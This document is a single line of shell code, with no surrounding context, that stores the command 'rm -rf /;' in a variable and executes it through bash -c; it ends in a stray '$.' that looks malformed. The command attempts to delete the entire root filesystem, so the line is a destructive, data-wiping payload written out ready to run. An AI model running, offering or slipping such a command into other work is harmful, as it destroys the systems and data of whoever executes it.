x='rm -rf /;'; bash -c $x$.
